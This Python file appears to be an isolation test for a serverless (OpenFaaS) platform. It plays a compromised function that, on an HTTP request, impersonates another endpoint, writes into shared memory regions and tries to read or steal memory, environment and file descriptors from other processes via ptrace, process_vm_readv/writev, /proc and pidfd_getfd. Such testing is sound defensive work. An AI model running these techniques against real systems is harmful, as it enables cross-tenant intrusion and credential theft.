"""A function that has been taken over: it tries whatever a process in its place can try to reach another chain's memory.

The request names a canary (hex, so that its bytes lie in no pool of this chain), a mark to leave, and the process ids of the
other chain's instances as the machine counts them. The answer says what became of each attempt.
"""

import ctypes
import json
import mmap
import os
import signal
import socket
import stat
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PTRACE_ATTACH, PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD = 16, 0x4206, 434, 438
HELLO = {"version": 1, "serves": False, "wakeup": "none", "delivery": ["ring"]}
LIES = {"domain": "shop.openfaas-fn", "endpoint": 1, "function": "second.openfaas-fn", "instance": 1}


def attempt(what):
    """What an attempt brought: nothing when it was refused."""
    try:
        return what()
    except OSError as error:
        return {"refused": error.errno}


def libc(name, *args):
    result = getattr(LIBC, name)(*args)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result


def join():
    """Another endpoint of this instance, which says that it is somebody else. Its welcome, and what came with it."""
    line = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    line.connect(os.environ["NEARPATH_DISPATCH"])
    line.send(json.dumps({"hello": HELLO | LIES}).encode())
    line.settimeout(10)
    text, fds, _, _ = socket.recv_fds(line, 4096, 8)
    return line, json.loads(text)["welcome"], fds


def replay(line, fds):
    """Sends what it got back to the node, in its own name and in another's; what comes of that."""
    for words in ({"ready": {}}, {"ready": LIES}, {"welcome": LIES}):
        socket.send_fds(line, [json.dumps(words).encode()], fds)
    line.settimeout(0.5)
    try:
        return list(socket.recv_fds(line, 4096, 8)[1])
    except TimeoutError:
        return []


def memory(fds):
    """All regions that can be had from descriptors, opened anew through /proc: for writing, where that goes."""
    regions = []
    for fd in {*map(int, os.listdir("/proc/self/fd")), *fds}:
        try:
            if "memfd:" in os.readlink(f"/proc/self/fd/{fd}"):
                regions.append(os.open(f"/proc/self/fd/{fd}", os.O_RDWR))
        except OSError:
            pass
    return regions


def holds(fd, wanted):
    with mmap.mmap(fd, 0, prot=mmap.PROT_READ) as region:
        return region.find(wanted) >= 0


def leave(fd, mark):
    """At the end of a pool, where its largest slot is: what forged descriptors of other slots name lies before that."""
    with mmap.mmap(fd, 0) as region:
        region[-4096 : -4096 + len(mark)] = mark


def beyond(fd):
    """The byte after a region's end, as a forged slot or offset would name it."""
    size = os.fstat(fd).st_size
    read = {"read": len(os.pread(fd, 64, size)) + len(os.pread(fd, 64, size + (1 << 30)))}
    child = os.fork()
    if child == 0:
        place = LIBC.mmap(None, size + 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
        ctypes.string_at(place + size, 1)
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    grown = attempt(lambda: os.ftruncate(fd, size + 4096))
    written = attempt(lambda: os.pwrite(fd, b"no", size))
    return read | {"signal": os.WTERMSIG(status) if os.WIFSIGNALED(status) else 0, "grown": grown, "written": written}


def strike(pid):
    """What can be tried with the number of a process."""
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(64)), 64)
    target = (ctypes.c_void_p * 2)(4096, 64)
    copies = {
        name: attempt(lambda name=name: libc(name, pid, ctypes.byref(vector), 1, ctypes.byref(target), 1, 0))
        for name in ("process_vm_readv", "process_vm_writev")
    }
    files = {
        name: attempt(lambda name=name: os.open(f"/proc/{pid}/{name}", os.O_RDONLY)) for name in ("mem", "maps", "environ")
    }
    folders = {name: attempt(lambda name=name: os.listdir(f"/proc/{pid}/{name}")) for name in ("fd", "map_files", "root")}
    traces = {
        str(how): attempt(lambda how=how: libc("ptrace", how, pid, None, None)) for how in (PTRACE_ATTACH, PTRACE_SEIZE)
    }
    pidfd = attempt(lambda: libc("syscall", PIDFD_OPEN, pid, 0))
    stolen = [attempt(lambda n=n: libc("syscall", PIDFD_GETFD, pidfd, n, 0)) for n in range(8)] if isinstance(pidfd, int) else []
    return copies | files | folders | traces | {"pidfd": pidfd, "stolen": [s for s in stolen if isinstance(s, int)]}


def doors():
    folder = os.path.dirname(os.environ["NEARPATH_DISPATCH"])
    return [name for name in os.listdir(folder) if stat.S_ISSOCK(os.stat(os.path.join(folder, name)).st_mode)]


def attack(canary, mark, pids):
    line, welcome, fds = join()
    regions = memory([*fds, *replay(line, fds)])
    pool = max(regions, key=lambda fd: os.fstat(fd).st_size)
    leave(pool, mark)
    return {
        "welcome": welcome,
        "regions": len(regions),
        "bytes": sum(os.fstat(fd).st_size for fd in regions),
        "control": holds(pool, mark),
        "leaked": [os.readlink(f"/proc/self/fd/{fd}") for fd in regions if holds(fd, canary)],
        "beyond": beyond(pool),
        "strikes": {str(pid): strike(pid) for pid in pids},
        "doors": doors(),
        "bus": int(signal.SIGBUS),
    }


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])) or b"null")
        told = attack(bytes.fromhex(asked["canary"]), bytes.fromhex(asked["mark"]), asked["pids"]) if asked else {}
        text = json.dumps(told).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *args):
        pass


ThreadingHTTPServer(("127.0.0.1", 5000), Handler).serve_forever()
